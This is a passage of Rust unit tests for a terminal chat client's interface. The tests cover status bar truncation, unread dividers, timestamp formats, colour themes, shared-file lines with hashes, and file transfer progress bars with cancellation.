        assert!(buf[(x, y)].modifier.contains(Modifier::DIM));
        assert_eq!(app.view().unread, 0);
    }

    #[test]
    fn status_bar_shows_the_topic_as_space_allows() {
        let mut app = rooms_app();
        app.add_records(&[record_in(
            1,
            "#dev",
            "System",
            "bob set the topic: ship the release on friday, then celebrate",
        )]);
        app.status.server_name = Some("Office".into());
        app.handle_key(KeyEvent::new(KeyCode::Char('2'), KeyModifiers::ALT));
        let status = |width| rows(&draw(&app, width, 8))[6].clone();
        assert_eq!(
            status(140),
            " DISCONNECTED │ #dev: ship the release on friday, then celebrate │ 10.0.0.5 (Office) │ \
             alice │ – online │ ♥ – │ outbox 0"
        );
        assert_eq!(
            status(100),
            " DISCONNECTED │ #dev: ship the release on friday,… │ 10.0.0.5 │ alice │ – online │ ♥ – │ \
             outbox 0"
        );
        assert!(
            status(60).starts_with(" DISCONNECTED │ #dev │ 10.0.0.5 │ alice"),
            "{}",
            status(60)
        );
    }

    #[test]
    fn new_since_you_left_is_drawn_before_the_first_newer_record() {
        let mut app = app();
        let mut marks = crate::tui::marks::Marks::new();
        marks.insert(gc_protocol::Room::general(), 2);
        app.set_marks(marks);
        app.load_initial(&[
            record(1, 0, "bob", "read before"),
            record(2, 1, "bob", "read too"),
            record(3, 2, "carol", "written while away"),
        ]);
        app.add_records(&[record(4, 3, "bob", "and now")]);
        let buf = draw(&app, 60, 10);
        let r = rows(&buf);
        let at = r
            .iter()
            .position(|row| row.contains(" new since you left "))
            .unwrap_or_else(|| panic!("{r:#?}"));
        assert!(r[at].starts_with('─') && r[at].ends_with('─'), "{}", r[at]);
        assert!(r[at - 1].contains("bob: read too"), "{r:#?}");
        assert!(r[at + 1].contains("carol: written while away"), "{r:#?}");
        assert_eq!(r.iter().filter(|row| row.contains("new since")).count(), 1);
        // Scrolling counts its row: the pane's rows are what is drawn.
        let height = app.log().rows(2, 60);
        assert_eq!(height, 2, "the line and the record's row");
    }

    #[test]
    fn the_time_column_follows_the_timestamp_format() {
        let mut app = app();
        app.set_look(crate::tui::look::Look {
            time: crate::tui::look::TimeColumn::parse("%H:%M:%S").unwrap(),
            ..Default::default()
        });
        app.enter_chat("alice");
        app.add_records(&[record(1, 0, "bob", "aaaa bbbb cccc dddd eeee ffff gggg")]);
        app.queued(
            ClientMsgId::new("m1").unwrap(),
            gc_protocol::Room::general(),
            "mine".into(),
        );
        let buf = draw(&app, 40, 8);
        let r = rows(&buf);
        assert!(r[1].starts_with("22:13:20 bob: aaaa"), "{r:#?}");
        assert!(
            r[2].starts_with("         ") && !r[2].starts_with("          "),
            "{r:#?}"
        );
        assert!(
            r[3].starts_with("22:23:20 alice: mine (not sent yet)"),
            "{r:#?}"
        );
    }

    #[test]
    fn themes_colour_the_screen_or_leave_it_plain() {
        use crate::tui::look::{Look, Theme, ThemeName};
        let themed = |name| {
            let mut app = app();
            app.set_look(Look {
                theme: Theme::new(name),
                ..Default::default()
            });
            app.enter_chat("alice");
            app.add_records(&[
                record(1, 0, "bob", "hey alice, look"),
                record(2, 1, "carol", "plain"),
            ]);
            app.notice(Level::Warning, "connection trouble");
            app
        };
        let light = themed(ThemeName::Light);
        let buf = draw(&light, 90, 10);
        let (x, y) = find(&buf, "hey alice");
        assert_eq!(buf[(x, y)].fg, Color::Blue, "no yellow on white");
        let (x, y) = find(&buf, "connection trouble");
        assert_eq!(buf[(x, y)].fg, Color::Magenta);
        let mono = themed(ThemeName::Mono);
        let buf = draw(&mono, 90, 10);
        for cell in buf.content() {
            assert_eq!((cell.fg, cell.bg), (Color::Reset, Color::Reset), "{cell:?}");
        }
        let (x, y) = find(&buf, "hey alice");
        assert!(
            buf[(x, y)]
                .modifier
                .contains(Modifier::UNDERLINED | Modifier::BOLD)
        );
        let (x, y) = find(&buf, " DISCONNECTED");
        assert!(
            buf[(x + 1, y)].modifier.contains(Modifier::REVERSED),
            "the bar"
        );
    }

    /// `3f5c…e1a9`.
    fn hash() -> String {
        format!("3f5c{}e1a9", "0".repeat(56))
    }

    #[test]
    fn file_lines_show_the_name_the_size_for_people_and_a_short_hash() {
        let mut app = app();
        app.add_records(&[
            record(
                1,
                0,
                "bob",
                &format!("[file] report.pdf (2,100,000 bytes) sha256:{}", hash()),
            ),
            // Not the record's exact shape: text as it is.
            record(2, 60, "bob", "[file] fake.txt (12 bytes) sha256:abc"),
            record(3, 120, "bob", "a shared file is [file] x"),
        ]);
        let buf = draw(&app, 60, 8);
        let r = rows(&buf);
        assert_eq!(r[1], "22:13 bob: 📎 report.pdf (2.1 MB) sha256:3f5c…e1a9");
        assert_eq!(r[2], "22:14 bob: [file] fake.txt (12 bytes) sha256:abc");
        assert_eq!(r[3], "22:15 bob: a shared file is [file] x");
        let (x, y) = find(&buf, "report.pdf");
        assert_eq!(buf[(x, y)].fg, Color::LightCyan, "the name highlighted");
        assert!(buf[(x, y)].modifier.contains(Modifier::BOLD));
        let (x, y) = find(&buf, "(2.1 MB)");
        assert_eq!(buf[(x, y)].fg, Color::Reset);
        let (x, y) = find(&buf, "sha256:3f5c");
        assert_eq!(buf[(x, y)].fg, Color::DarkGray, "the hash dimmed");
        // A long name wraps under the text like any message.
        app.add_records(&[record(
            4,
            180,
            "carol",
            &format!(
                "[file] quarterly report for the board.pdf (999 bytes) sha256:{}",
                hash()
            ),
        )]);
        let r = rows(&draw(&app, 40, 8));
        assert_eq!(r[4], "22:16 carol: 📎 quarterly report for the");
        assert_eq!(r[5], "      board.pdf (999 B) sha256:3f5c…e1a9");
        // A search showing a file line says Enter downloads it.
        for key in "/search report.pdf\r".chars() {
            let code = if key == '\r' {
                KeyCode::Enter
            } else {
                KeyCode::Char(key)
            };
            app.handle_key(KeyEvent::new(code, KeyModifiers::NONE));
        }
        let r = rows(&draw(&app, 120, 8));
        assert!(
            r[5].contains("1 of 1 · Ctrl+P older · Ctrl+N newer · Enter downloads · Esc ends"),
            "{r:?}"
        );
    }

    #[test]
    fn progress_bars_fill_by_eighths() {
        assert_eq!(progress_bar(0.0, 4), "▕    ▏");
        assert_eq!(progress_bar(0.5, 4), "▕██  ▏");
        assert_eq!(progress_bar(0.45, 10), "▕████▌     ▏");
        assert_eq!(progress_bar(1.0, 4), "▕████▏");
        assert_eq!(progress_bar(0.53, 4), "▕██  ▏", "an eighth is not drawn");
        assert_eq!(progress_bar(7.0, 2), "▕██▏", "never past its end");
        assert_eq!(progress_bar(-1.0, 2), "▕  ▏");
    }

    fn progress(id: u64, name: &str, done: u64, total: u64, hashing: bool) -> Event {
        Event::Transfer(TransferEvent::Progress {
            id,
            direction: if name.ends_with(".iso") {
                Direction::Download
            } else {
                Direction::Upload
            },
            name: name.into(),
            done,
            total,
            hashing,
        })
    }

    #[test]
    fn transfers_show_a_bar_with_percent_bytes_and_speed_above_the_status_bar() {
        let mut app = app();
        let t0 = app.now;
        app.handle_client(progress(1, "report.pdf", 1_000_000, 10_000_000, true));
        let r = rows(&draw(&app, 100, 8));
        assert_eq!(
            r[5],
            " ↑ report.pdf hashing ▕█▎          ▏  10% 1.0 MB / 10.0 MB · Esc cancels"
        );
        assert!(r[6].starts_with(" DISCONNECTED │"), "{r:?}");
        app.set_now(t0 + Duration::from_secs(1));
        app.handle_client(progress(1, "report.pdf", 0, 10_000_000, false));
        app.set_now(t0 + Duration::from_secs(2));
        app.handle_client(progress(1, "report.pdf", 4_500_000, 10_000_000, false));
        let buf = draw(&app, 100, 8);
        assert_eq!(
            rows(&buf)[5],
            " ↑ report.pdf ▕█████▍      ▏  45% 4.5 MB / 10.0 MB 4.5 MB/s · Esc cancels"
        );
        let (x, y) = find(&buf, "report.pdf ▕");
        assert_eq!(buf[(x, y)].fg, Color::LightCyan);
        // A second transfer: the newest is shown, and how many more run.
        app.handle_client(progress(2, "debian.iso", 0, 0, false));
        let r = rows(&draw(&app, 100, 8));
        assert_eq!(
            r[5],
            " ↓ debian.iso ▕            ▏   0% · 1 more · Esc cancels"
        );
        // Narrow: a long name is shortened, the hint goes, then the bytes, the count and the
        // speed.
        app.handle_client(progress(
            3,
            "a very long name of a file to upload.tar.gz",
            50,
            100,
            false,
        ));
        let r = rows(&draw(&app, 60, 8));
        assert_eq!(
            r[5],
            " ↑ a very long na… ▕██████      ▏  50% 50 B / 100 B · 2 more"
        );
        let r = rows(&draw(&app, 40, 8));
        assert_eq!(r[5], " ↑ a very long name… ▕██████      ▏  50%");
        let r = rows(&draw(&app, 30, 8));
        assert_eq!(r[5], " ↑ a very… ▕██████      ▏  50%");
        // Esc cancels the newest; its row says so until its end comes.
        app.handle_key(KeyEvent::new(KeyCode::Esc, KeyModifiers::NONE));
        let r = rows(&draw(&app, 100, 8));
        assert_eq!(
            r[5],
            " ↑ a very long name of a file to upload.tar.gz cancelling… · 2 more"
        );
        // Ends take them away; with none left, the row goes.
        for id in [1, 2, 3] {
            app.handle_client(Event::Transfer(TransferEvent::Cancelled {
                id,
                direction: Direction::Upload,
                name: "x".into(),
            }));
        }
        let r = rows(&draw(&app, 100, 8));
        assert!(r[6].starts_with(" DISCONNECTED │"), "{r:?}");
        assert!(r[3].contains("-- upload of x cancelled"), "{r:?}");
    }
}
